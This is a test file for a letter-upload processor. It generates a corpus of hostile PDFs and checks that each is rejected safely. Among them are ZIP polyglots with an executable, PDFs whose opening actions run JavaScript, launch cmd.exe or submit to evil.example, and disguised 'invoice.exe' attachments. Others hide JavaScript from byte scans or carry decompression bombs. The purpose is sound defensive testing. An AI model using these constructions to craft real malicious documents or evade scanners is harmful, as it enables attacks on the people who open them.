  add('polyglot', 'pdf-then-zip', letters.concat(bases.handPdf, zip([{ name: 'payload.exe', data: new Uint8Array(2000) }])), EVERY, unreadable());
  add('polyglot', 'pdf-then-zip-then-eof', letters.concat(bases.handPdf, zip([{ name: 'payload.exe', data: new Uint8Array(2000) }]), latin1('\n%%EOF\n')), EVERY, unreadable(/ZIP/));
  add('polyglot', 'pdf-with-zip-in-a-stream', onePagePdf({ extra: [letters.streamObject('', zip([{ name: 'payload.exe', data: new Uint8Array(2000) }]))] }), EVERY, unreadable(/ZIP/));
  // A stray end-of-directory signature after the real one (no directory behind it): the search goes on past it.
  add('polyglot', 'pdf-with-zip-then-a-stray-signature', onePagePdf({ extra: [letters.streamObject('', zip([{ name: 'payload.exe', data: new Uint8Array(2000) }])), letters.streamObject('', latin1(`PK\x05\x06${'\xff'.repeat(18)}`))] }), EVERY, unreadable(/ZIP/));
  add('polyglot', 'zip-then-pdf', letters.concat(zip([{ name: 'a.txt', data: latin1('x'.repeat(100)) }]), bases.handPdf), EVERY, rejected('LETTER_TYPE_NOT_ALLOWED'));

  // PDFs that can act when opened: all rejected (see the top of the file).
  const active = (name: string, bytes: Uint8Array, detail: RegExp) => add('pdf-active-content', name, bytes, EVERY, unreadable(detail));
  active('openaction-javascript', letters.openActionJavaScriptPdf(), /JavaScript/);
  active('openaction-javascript-escaped-names', letters.escapedJavaScriptPdf(), /JavaScript/);
  active('openaction-javascript-lowercase-escape', onePagePdf({ catalog: '/OpenAction << /S /Java#53cript /#4aS (app.alert\\(1\\)) >>' }), /JavaScript/);
  active('openaction-javascript-in-object-stream', await letters.openActionPdfInObjectStream(), /JavaScript/);
  active('javascript-as-a-stream', onePagePdf({ catalog: '/OpenAction << /S /JavaScript /JS 6 0 R >>', extra: [letters.streamObject('', latin1('app.alert(1);'.repeat(10)))] }), /JavaScript/);
  active('javascript-name-tree', onePagePdf({ catalog: '/Names << /JavaScript 6 0 R >>', extra: ['<< /Names [(init) 7 0 R] >>', JS_ACTION] }), /JavaScript/);
  active('javascript-in-page-aa', onePagePdf({ page: `/AA << /O ${JS_ACTION} >>` }), /JavaScript/);
  active('javascript-in-link', onePagePdf({ page: '/Annots [6 0 R]', extra: [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A ${JS_ACTION} >>`] }), /JavaScript/);
  active('javascript-in-incremental-update', incrementalUpdate(letters.simpleHandPdf(), { 6: JS_ACTION, 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>' }, 7), /JavaScript/);
  active('automatic-action-without-javascript', onePagePdf({ page: '/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>' }), /automatic actions/);
  active('launch', onePagePdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }), /launch/);
  active('launch-escaped', onePagePdf({ catalog: '/OpenAction << /S /L#61unch /Win << /F (cmd.exe) /P (/c calc) >> >>' }), /launch/);
  const attached = await PDFDocument.load(await letters.pdfLetter(), { updateMetadata: false });
  await attached.attach(latin1('MZ'.padEnd(4000, '\0')), 'invoice.exe', { mimeType: 'application/octet-stream', description: 'invoice' });
  active('embedded-file-pdf-lib', await attached.save({ useObjectStreams: true }), /embedded files/);
  active(
    'embedded-file-annotation',
    onePagePdf({ page: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS << /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >> >>', letters.streamObject('/Type /EmbeddedFile', new Uint8Array(3000))] }),
    /embedded files/,
  );
  active('goto-embedded', onePagePdf({ catalog: '/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>' }), /embedded file/);
  active('xfa-form', onePagePdf({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', extra: [letters.streamObject('', latin1('<xdp:xdp/>'.repeat(10)))] }), /XFA/);
  active('rich-media', onePagePdf({ page: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 20 20] >>'] }), /rich media/);
  active('submit-form', onePagePdf({ catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>' }), /form submission/);
  active('import-data', onePagePdf({ catalog: '/OpenAction << /S /ImportData /F (data.fdf) >>' }), /import/);
  active('encrypted', letters.encryptedPdf(), /encrypted/);
  active('encrypted-escaped-name', onePagePdf({ trailer: `/Encr#79pt 6 0 R /ID [<${'0'.repeat(32)}> <${'0'.repeat(32)}>]`, extra: [`<< /Filter /Standard /V 1 /R 2 /O <${'a'.repeat(64)}> /U <${'a'.repeat(64)}> /P -44 >>`] }), /encrypted/);

  // Active content hidden from a byte-level scan: each object stream below is one pdf-lib reads.
  const hiddenJs = objectStreamText(9, JS_ACTION);
  const hiddenJsData = bytesOf(deflateSync(latin1(hiddenJs.text)));
  const objStm = (first: number, length: number) => `/Type /ObjStm /N 1 /First ${first} /Length ${length}`;
  // Refused either for the JavaScript or, where pdf-lib would resolve what the scan cannot, for that.
  const hide = (name: string, objects: (string | (string | Uint8Array)[])[]) =>
    active(`hidden-${name}`, onePagePdf({ catalog: '/OpenAction 9 0 R', extra: objects }), /JavaScript|not a plain name/);
  hide('comment-before-stream', [rawStream(`${objStm(hiddenJs.first, hiddenJsData.length)} /Filter /FlateDecode`, ' % a comment\nstream\n', hiddenJsData)]);
  hide('no-eol-after-stream', [rawStream(`${objStm(hiddenJs.first, hiddenJsData.length)} /Filter /FlateDecode`, '\nstream', hiddenJsData)]);
  hide('space-crlf-after-stream', [rawStream(`${objStm(hiddenJs.first, hiddenJsData.length)} /Filter /FlateDecode`, '\nstream \r\n', hiddenJsData)]);
  hide('indirect-filter', ['/FlateDecode', rawStream(`${objStm(hiddenJs.first, hiddenJsData.length)} /Filter 6 0 R`, '\nstream\n', hiddenJsData)]);
  hide('indirect-filter-array', ['/FlateDecode', rawStream(`${objStm(hiddenJs.first, hiddenJsData.length)} /Filter [6 0 R]`, '\nstream\n', hiddenJsData)]);
  hide('indirect-type', ['/ObjStm', rawStream(`/Type 6 0 R /N 1 /First ${hiddenJs.first} /Length ${hiddenJsData.length} /Filter /FlateDecode`, '\nstream\n', hiddenJsData)]);
  const nested = objectStreamText(9, JS_ACTION, ' stream endstream ');
  const nestedData = zlibWithStoredHead(nested.text.slice(0, nested.first), nested.text.slice(nested.first));
  hide('nested-endstream-in-data', [rawStream(`/Type /ObjStm /N 1 /First ${nested.first} /Filter /FlateDecode`, '\nstream\n', nestedData)]);
  // A /Length in a nested dictionary, pointing at an `endstream` inside the stored block (2 bytes
  // of zlib header, 5 of stored-block header, then "9 0 " and the decoy).
  const decoyed = objectStreamText(9, JS_ACTION, ' endstream ');
  const decoy = zlibWithStoredHead(decoyed.text.slice(0, decoyed.first), decoyed.text.slice(decoyed.first));
  hide('decoy-length-in-decode-parms', [rawStream(`/DecodeParms << /Length 11 >> /Type /ObjStm /N 1 /First ${decoyed.first} /Length ${decoy.length} /Filter /FlateDecode`, '\nstream\n', decoy)]);

  // Deep and cyclic objects.
  add('pdf-nesting', 'arrays-5000-deep', onePagePdf({ catalog: `/Deep ${'['.repeat(5_000)}${']'.repeat(5_000)}` }), EVERY);
  add('pdf-nesting', 'arrays-200000-deep', onePagePdf({ catalog: `/Deep ${'['.repeat(200_000)}${']'.repeat(200_000)}` }), EVERY, unreadable());
  add('pdf-nesting', 'dicts-5000-deep', onePagePdf({ catalog: `/Deep ${'<< /A '.repeat(5_000)}<< >>${' >>'.repeat(5_000)}` }), EVERY);
  add('pdf-nesting', 'dicts-100000-deep', onePagePdf({ catalog: `/Deep ${'<</A '.repeat(100_000)}<<>>${'>>'.repeat(100_000)}` }), EVERY, unreadable());
  add('pdf-nesting', 'parentheses-300000-deep', onePagePdf({ catalog: `/S ${'('.repeat(300_000)}${')'.repeat(300_000)}` }), EVERY);
  add('pdf-nesting', 'unbalanced-arrays', onePagePdf({ catalog: `/Deep ${'['.repeat(300_000)}` }), EVERY, unreadable());
  add('pdf-cycles', 'object-referencing-itself', onePagePdf({ catalog: '/Loop 6 0 R', extra: ['<< /Self 6 0 R /Next 7 0 R >>', '[6 0 R 7 0 R]'] }), EVERY);
  add('pdf-cycles', 'kids-contain-their-parent', letters.selfReferencingKidsPdf(), EVERY, unreadable(/cycle/));
  add(
    'pdf-cycles',
    'kids-loop-of-two',
    letters.handPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [6 0 R] /Count 1 >>', '<< /Type /Page /Parent 6 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>', CONTENT, FONT, '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>']),
    EVERY,
    unreadable(/cycle/),
  );
  add('pdf-cycles', 'pages-is-the-catalog', letters.handPdf(['<< /Type /Catalog /Pages 1 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>', CONTENT, FONT]), EVERY, unreadable(/page tree/));
  add('pdf-cycles', 'page-is-its-own-parent', onePagePdf({ page: '/Parent 3 0 R' }), EVERY);
  const plain = letters.simpleHandPdf();
  const xrefAt = /startxref\s+(\d+)/.exec(Buffer.from(plain).toString('latin1'))?.[1] ?? '0';
  add('pdf-cycles', 'xref-prev-points-to-itself', letters.simpleHandPdf({ trailerExtra: `/Prev ${xrefAt}` }), EVERY);

  // Page trees that are small files and enormous trees.
  const pages = (kids: string, count: number, extra: string[] = []) =>
    letters.handPdf(['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>', CONTENT, FONT, ...extra]);
  add('pdf-fan-out', '100000-kids-one-page', pages(Array(100_000).fill('3 0 R').join(' '), 100_000), EVERY, unreadable(/shared node/));
  add('pdf-fan-out', '100000-distinct-missing-kids', pages(Array.from({ length: 100_000 }, (_, i) => `${i + 6} 0 R`).join(' '), 100_000), EVERY, unreadable(/too large|malformed/));
  add('pdf-fan-out', '20-levels-of-4', letters.fanOutPagesPdf(20, 4), EVERY, unreadable(/shared node/));
  add('pdf-fan-out', '2-levels-of-300', letters.fanOutPagesPdf(2, 300), EVERY, unreadable(/shared node/));
  const chain = Array.from({ length: 2_000 }, (_, i) => `<< /Type /Pages /Kids [${i === 1_999 ? 3 : i + 7} 0 R] /Count 1 >>`);
  add('pdf-fan-out', 'chain-2000-deep', pages('6 0 R', 1, chain), EVERY, unreadable(/too deep/));
  add('pdf-fan-out', 'count-mismatch', pages('3 0 R', 999_999_999), EVERY, unreadable(/page count/));
  add('pdf-fan-out', '21-pages', await letters.pdfWithPages(21), EVERY, unreadable(/more than 20 pages/));

  // Flate bombs.
  const bombed = objectStreamText(9, '<< /Bomb true >> ');
  const objStmBomb = await deflateWithZeros(latin1(bombed.text), 300 * 2 ** 20);
  const bomb = (name: string, objects: (string | (string | Uint8Array)[])[]) => add('pdf-flate-bomb', name, onePagePdf({ catalog: '/Bomb 9 0 R', extra: objects }), EVERY, unreadable());
  add('pdf-flate-bomb', 'image-stream-200mb', await letters.flateBombPdf(), EVERY, unreadable(/compression bomb/));
  add('pdf-flate-bomb', 'object-stream-chained-flate-256mb', await letters.chainedFlateBombPdf(), EVERY, unreadable(/compression bomb/));
  bomb('object-stream-300mb', [rawStream(`${objStm(bombed.first, objStmBomb.length)} /Filter /FlateDecode`, '\nstream\n', objStmBomb)]);
  bomb('object-stream-300mb-abbreviated-filter', [rawStream(`${objStm(bombed.first, objStmBomb.length)} /Filter /Fl`, '\nstream\n', objStmBomb)]);
  bomb('object-stream-300mb-indirect-length', [rawStream(`/Type /ObjStm /N 1 /First ${bombed.first} /Length 7 0 R /Filter /FlateDecode`, '\nstream\n', objStmBomb), `${objStmBomb.length}`]);
  bomb('object-stream-300mb-comment-before-stream', [rawStream(`${objStm(bombed.first, objStmBomb.length)} /Filter /FlateDecode`, '\n%\nstream\n', objStmBomb)]);
  bomb('object-stream-300mb-no-eol', [rawStream(`${objStm(bombed.first, objStmBomb.length)} /Filter /FlateDecode`, ' stream', objStmBomb)]);
  bomb('object-stream-300mb-indirect-filter', ['/FlateDecode', rawStream(`${objStm(bombed.first, objStmBomb.length)} /Filter 6 0 R`, '\nstream\n', objStmBomb)]);
  bomb('xref-stream-300mb', [rawStream(`/Type /XRef /Size 8 /W [1 2 1] /Length ${objStmBomb.length} /Filter /FlateDecode`, '\nstream\n', objStmBomb)]);
  const eightMb = await deflateWithZeros(new Uint8Array(0), 8 * 2 ** 20);
  bomb('five-streams-of-8mb', Array.from({ length: 5 }, () => letters.streamObject('/Filter /FlateDecode', eightMb)));
  const tiny = bytesOf(deflateSync(latin1('q Q ')));
  add('pdf-flate-bomb', '12000-tiny-flate-streams', onePagePdf({ extra: Array.from({ length: 12_000 }, () => letters.streamObject('/Filter /FlateDecode', tiny)) }), EVERY);

  // Parser stress: slow or odd, but harmless.
  add('pdf-parser-stress', '12000-objects', letters.manyObjectsPdf(12_000), EVERY);
  add('pdf-parser-stress', '100000-element-array', onePagePdf({ catalog: `/Big [${Array(100_000).fill('1').join(' ')}]` }), EVERY);
  add('pdf-parser-stress', '500000-digit-number', onePagePdf({ catalog: `/N ${'9'.repeat(500_000)}` }), EVERY);
  add('pdf-parser-stress', '500000-byte-name', onePagePdf({ catalog: `/${'A'.repeat(500_000)} 1` }), EVERY);
  add('pdf-parser-stress', 'huge-object-number', onePagePdf({ catalog: '/X 2147483647 0 R', extra: ['2147483647 0 obj << >> endobj'] }), EVERY);
  add('pdf-parser-stress', 'garbage-body', letters.garbagePdf(), EVERY, unreadable());
  add('pdf-parser-stress', 'binary-body', letters.concat(latin1('%PDF-1.7\n'), Uint8Array.from({ length: 6000 }, (_, i) => (i * 40_503) & 0xff), latin1('\n%%EOF\n')), EVERY, unreadable());
  add('pdf-parser-stress', 'only-a-header-and-eof', letters.concat(latin1('%PDF-1.7\n'), new Uint8Array(2000).fill(0x20), latin1('%%EOF\n')), EVERY, unreadable());
  add('pdf-parser-stress', 'stream-without-endstream', onePagePdf({ extra: [['<< /Length 999999 >>\nstream\n', new Uint8Array(3000)]] }), EVERY, unreadable());
  add('pdf-parser-stress', 'lzw-stream', onePagePdf({ extra: [letters.streamObject('/Filter /LZWDecode', new Uint8Array(2000).fill(0x80))] }), EVERY, unreadable(/LZW/));

  return files;
}

// ---- running the processor ----------------------------------------------------------------

type Result = Extract<RunnerEvent, { event: 'result' }>;

interface Run {
  results: Map<string, Result>;
  exitCode: number | null;
  signal: NodeJS.Signals | null;
  maxRssKiB: number | undefined;
  /** The file being inspected when the child died or stopped answering. */
  culprit: string | undefined;
  hung: boolean;
  stderr: string;
  wallMs: number;
}

function parseEvent(line: string): RunnerEvent | undefined {
  try {
    const event = JSON.parse(line) as RunnerEvent | null;
    return typeof event === 'object' && event !== null && 'event' in event ? event : undefined;
  } catch {
    return undefined;
  }
}

/** Runs the inspector over `dir` in a child process, watching each file for a hang. */
async function runChild(dir: string): Promise<Run> {
  const started = performance.now();
  const child = spawn(process.execPath, ['--import', 'tsx', RUNNER, dir], { stdio: ['ignore', 'pipe', 'pipe'], env: process.env });
  const results = new Map<string, Result>();
  let current: string | undefined;
  let maxRssKiB: number | undefined;
  let hung = false;
  let stderr = '';
  let watchdog: NodeJS.Timeout | undefined;
  child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr = (stderr + chunk).slice(-8_000)));
  const exited = once(child, 'exit') as Promise<[number | null, NodeJS.Signals | null]>;
  for await (const line of createInterface({ input: child.stdout })) {
    const event = parseEvent(line);
    if (!event) continue; // something else the child printed
    clearTimeout(watchdog);
    if (event.event === 'start') {
      current = event.name;
      watchdog = setTimeout(() => {
        hung = true;
        child.kill('SIGKILL');
      }, HANG_MS);
    } else if (event.event === 'result') {
      results.set(event.name, event);
      current = undefined;
    } else {
      maxRssKiB = event.maxRssKiB;
    }
  }
  clearTimeout(watchdog);
  const [exitCode, signal] = await exited;
  return { results, exitCode, signal, maxRssKiB, culprit: current, hung, stderr, wallMs: performance.now() - started };
}

// ---- the test -----------------------------------------------------------------------------

let dir: string;
let corpus: CorpusFile[];
let run: Run;

beforeAll(async () => {
  const bases = await makeBases();
  corpus = [...fuzzed(bases), ...(await handCrafted(bases))];
  dir = await mkdtemp(join(tmpdir(), 'certrevoke-hostile-'));
  const manifest: ManifestEntry[] = corpus.map((f) => ({ name: f.name, allowed: [...f.allowed] }));
  await Promise.all(corpus.map((f) => writeFile(join(dir, f.name), f.bytes)));
  await writeFile(join(dir, 'manifest.json'), JSON.stringify(manifest));
  const categories = new Map<string, number>();
  for (const f of corpus) categories.set(f.category, (categories.get(f.category) ?? 0) + 1);
  console.log(`hostile corpus: seed ${SEED} (HOSTILE_SEED), ${corpus.length} files in ${dir}: ${[...categories].map(([c, n]) => `${c} ${n}`).join(', ')}`);
  run = await runChild(dir);
  if (process.env.HOSTILE_VERBOSE) for (const r of run.results.values()) console.log(`${r.name}\t${r.outcome}\t${r.code ?? ''}\t${r.ms} ms\t${r.rssMiB} MiB\t${r.detail}`);
}, 170_000);

afterAll(async () => {
  if (dir && !process.env.HOSTILE_KEEP) await rm(dir, { recursive: true, force: true });
});

describe('hostile files through the letter processor', () => {
  it('builds a corpus of at least 200 distinct files within the size limit (but for the deliberate oversize ones)', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(200);
    expect(new Set(corpus.map((f) => f.name)).size).toBe(corpus.length);
    const oversize = corpus.filter((f) => f.bytes.length > LETTER_MAX_BYTES).map((f) => f.name);
    expect(oversize.sort()).toEqual(['size--one-byte-over', 'size--three-megabytes']);
  });

  it('processes every file without the process crashing or hanging', () => {
    const missing = corpus.filter((f) => !run.results.has(f.name)).map((f) => f.name);
    const what = run.hung ? `hung on ${run.culprit}` : run.culprit ? `died (code ${run.exitCode}, signal ${run.signal}) on ${run.culprit}` : `exited with ${run.exitCode}`;
    expect({ what, missing: missing.slice(0, 5), stderr: run.exitCode === 0 ? '' : run.stderr }).toEqual({ what: 'exited with 0', missing: [], stderr: '' });
  });

  it('ends every file accepted, or rejected with a code', () => {
    const bad = [...run.results.values()].filter((r) => !(r.outcome === 'accepted' || (r.outcome === 'rejected' && CODES.includes(r.code as Code))));
    expect(bad.map((r) => `${r.name}: ${r.outcome} ${r.code ?? ''} ${r.detail}`)).toEqual([]);
  });

  it(`takes under ${TIME_LIMIT_MS} ms per file and keeps the process under ${RSS_LIMIT_MB} MB`, () => {
    const results = [...run.results.values()];
    const slowest = results.reduce((a, b) => (b.ms > a.ms ? b : a));
    const peakMb = (run.maxRssKiB ?? Number.POSITIVE_INFINITY) / 1024;
    const byOutcome = (o: string) => results.filter((r) => r.outcome === o).length;
    console.log(
      `hostile corpus: ${results.length} files in ${(run.wallMs / 1000).toFixed(1)} s, ${byOutcome('accepted')} accepted, ${byOutcome('rejected')} rejected; ` +
        `slowest ${slowest.ms} ms (${slowest.name}: ${slowest.detail}); peak RSS ${peakMb.toFixed(0)} MB`,
    );
    expect(results.filter((r) => r.ms >= TIME_LIMIT_MS).map((r) => `${r.name}: ${r.ms} ms`)).toEqual([]);
    expect(peakMb).toBeLessThan(RSS_LIMIT_MB);
  });

  it('gives each hand-written file the verdict its kind calls for', () => {
    const wrong = corpus.flatMap((f) => {
      const r = run.results.get(f.name);
      if (!f.expect || !r) return [];
      const ok = f.expect.outcome === 'accepted' ? r.outcome === 'accepted' : r.outcome === 'rejected' && r.code === f.expect.code && (!f.expect.detail || f.expect.detail.test(r.detail));
      return ok ? [] : [`${f.name}: expected ${f.expect.outcome} ${f.expect.outcome === 'rejected' ? `${f.expect.code} ${f.expect.detail ?? ''}` : ''}, got ${r.outcome} ${r.code ?? ''} (${r.detail})`];
    });
    expect(wrong).toEqual([]);
  });

  it('rejects every PDF with active content or encryption as LETTER_UNREADABLE, hidden or not', () => {
    const activeFiles = corpus.filter((f) => f.category === 'pdf-active-content');
    expect(activeFiles.length).toBeGreaterThanOrEqual(25);
    for (const f of activeFiles) expect(run.results.get(f.name), f.name).toMatchObject({ outcome: 'rejected', code: 'LETTER_UNREADABLE' });
  });
});
